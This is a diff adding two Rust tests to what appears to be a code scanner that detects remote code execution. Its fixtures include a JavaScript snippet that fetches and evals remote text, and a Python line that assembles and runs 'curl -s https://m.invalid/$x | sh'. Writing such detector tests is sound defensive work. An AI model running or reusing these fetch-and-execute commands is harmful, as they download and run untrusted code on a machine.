@@ -345,3 +345,27 @@ fn loaders_of_scripts_are_decoded() {
     let decoded = outcome(Language::JavaScript, &code).decoded;
     assert!(decoded.iter().any(|(text, _)| &**text == loader), "{decoded:?}");
 }
+
+#[test]
+fn what_another_interpreter_fetches_is_a_download() {
+    let code = "const { execFileSync } = require('child_process');\n\
+                const out = execFileSync(process.execPath, ['-e', \"fetch('https://m.invalid/x').then(r => r.text()).then(console.log)\"]);\n\
+                eval(out.toString());\n";
+    has(Language::JavaScript, code, "flow-remote-code");
+    has_not(
+        Language::JavaScript,
+        &code.replace("fetch('https://m.invalid/x').then(r => r.text()).then(console.log)", "console.log(1)"),
+        "flow-remote-code",
+    );
+}
+
+#[test]
+fn templates_of_python_are_filled_in() {
+    let code = "import os\nfrom string import Template\nos.system(Template('$get -s https://m.invalid/$$x | ${shell}').substitute(get='curl', shell='sh'))\n";
+    let outcome = outcome(Language::Python, code);
+    assert!(
+        outcome.events.iter().any(|e| e.subject.as_deref() == Some("curl -s https://m.invalid/$x | sh")),
+        "{:?}",
+        outcome.events
+    );
+}
